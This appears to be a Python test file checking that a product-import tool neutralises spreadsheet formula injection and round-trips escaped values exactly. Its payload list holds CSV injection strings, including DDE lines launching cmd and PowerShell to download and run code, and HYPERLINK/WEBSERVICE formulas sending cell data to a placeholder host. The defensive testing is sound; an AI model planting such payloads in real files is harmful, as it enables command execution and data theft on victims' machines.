"""Text that a spreadsheet would run: text on the way in, harmless on the way out, unchanged
after a round trip through our own files."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clientela.intake.grammar.answers import plain
from clientela.intake.grammar.words import clean
from clientela.store.spreadsheets import given_again, neutral, restored
from tests.corpus.case import ROWS, SETTINGS, text
from tests.corpus.workbook import sheet
from tests.intake.importing import import_file

PAYLOADS = (
    # what the spreadsheet runs by its first character
    "=1+1", "=2*3", "=A1", "=SUM(A1:A9)", "=-1", "==1", "= 1+1", "=\"a\"&\"b\"", "=TRUE",
    "+1+1", "+8613800138000", "+34 600 123 456", "+SUM(A1)", "++1", "+=1", "+cmd",
    "-5+2", "-A1", "-SUM(A1)", "--1", "-=1", "-1,234.50", "- first", "-",
    "@SUM(A1)", "@A1", "@=1", "@user", "@",
    # what it does then
    '=HYPERLINK("http://x.example/?"&A1,"click")', '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML("http://x.example","//a")', '=IMAGE("http://x.example/p.png")',
    "=cmd|'/c calc'!A0", "=cmd|' /C powershell IEX(wget x)'!A0", "@SUM(1+9)*cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "=DDE(\"cmd\";\"/c calc\";\"a\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''", '=RTD("x",,"y")', "=CALL(\"x\",\"y\")",
    # in full width, quoted, and behind what parts cells elsewhere
    "＝1+1", "＋1", "－1", "＠SUM(A1)", '"=1+1"', '"=1+1', "a;=1+1", ";=1+1", "a;+86138;-1+1",
    "a;@SUM(A1);b", "Smith;=cmd|'/c calc'!A0", "a;'=1", "a;;=1",
    # which begin with our own mark already
    "'=1+1", "''=1+1", "'+86138", "'@x", "';=1", "'", "''", "'t Hooft", "' =1", "O'Brien;'-x",
)  # fmt: skip
MARKED = {
    "a;'=1": "a;=1", "'=1+1": "=1+1", "''=1+1": "'=1+1", "'+86138": "+86138", "'@x": "@x",
    "O'Brien;'-x": "O'Brien;-x",
}  # fmt: skip
FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠]")


def exported(values: list[str]) -> str:
    """Return a column as our files hold it, under a header that is one of the values."""
    rows = [(*ROWS[0][:2], value, *ROWS[0][3:]) for value in values]
    return text([[neutral(cell) for cell in row] for row in rows])


def names_in(content: bytes, tmp_path: Path, name: str = "file.csv") -> list[object]:
    """Return the product names that an import of a file finds."""
    path = tmp_path / name
    path.write_bytes(content)
    found = import_file(path, settings=SETTINGS)
    assert (found.refusals, found.asked, found.aside) == ([], [], [])
    return found.columns["product_name"]


def kept(value: str) -> object:
    """Return what the product keeps of a text that somebody typed."""
    return plain(clean(value))


class TestPayload:
    def test_is_there_sixty_times(self) -> None:
        assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_comes_back_as_it_was(self, payload: str, tmp_path: Path) -> None:
        once = names_in(exported([payload]).encode(), tmp_path)
        assert once == [kept(payload)]
        assert names_in(exported([str(once[0])]).encode(), tmp_path) == once

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_is_text_in_a_file_of_others(self, payload: str, tmp_path: Path) -> None:
        """Exactly our mark comes off: what no export of ours could have written stays."""
        row = (*ROWS[0][:2], payload, *ROWS[0][3:])
        expected = MARKED.get(payload, payload)
        assert names_in(text([row]).encode(), tmp_path) == [kept(expected)]

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_is_run_by_no_spreadsheet(self, payload: str) -> None:
        for separator in (",", ";", "\t"):
            for row in csv.reader(io.StringIO(exported([payload])), delimiter=separator):
                figures = [c for c in row if not re.fullmatch(r"-?[\d.]+", c)]
                assert [cell for cell in figures if FORMULA.match(cell)] == []

    def test_comes_back_from_a_workbook_too(self, tmp_path: Path) -> None:
        rows = [(*ROWS[0][:2], neutral(value), *ROWS[0][3:]) for value in PAYLOADS]
        found = names_in(sheet(rows), tmp_path, "file.xlsx")
        assert found == [kept(value) for value in PAYLOADS]

    def test_comes_back_where_a_column_goes_by_it(self, tmp_path: Path) -> None:
        header = ["Invoice No", "Product Code", "=Description", "Quantity", "Invoice Date",
                  "Unit Price", "Customer ID", "Country"]  # fmt: skip
        path = tmp_path / "file.csv"
        path.write_text(text(ROWS, header=[neutral(name) for name in header]))
        found = import_file(path, settings=SETTINGS, answers={"column:=Description": "ignore"})
        assert found.asked == []
        assert found.totals.accepted == 4

    def test_is_escaped_once_in_the_file_of_rejected_rows(self) -> None:
        assert [given_again(cell) for cell in ("=1", "'=1", "''=1", "x", "'x")] == [
            "'=1", "'=1", "''=1", "x", "'x",
        ]  # fmt: skip


class TestNumbers:
    def test_stay_numbers_for_the_spreadsheet(self) -> None:
        assert [neutral(value) for value in ("-5", "-12.50", -5, None)] == [
            "-5",
            "-12.50",
            -5,
            None,
        ]


class TestMark:
    @given(st.text(alphabet="';\t\r\n=+-@＝＠a1 ", max_size=12) | st.text(max_size=30))
    def test_comes_off_exactly_as_it_went_on(self, value: str) -> None:
        assert restored(neutral(value)) == value

    @given(st.text(alphabet="';=-a1", max_size=8), st.text(alphabet="';=-a1", max_size=8))
    def test_keeps_different_texts_apart(self, one: str, other: str) -> None:
        assert (neutral(one) == neutral(other)) == (one == other)
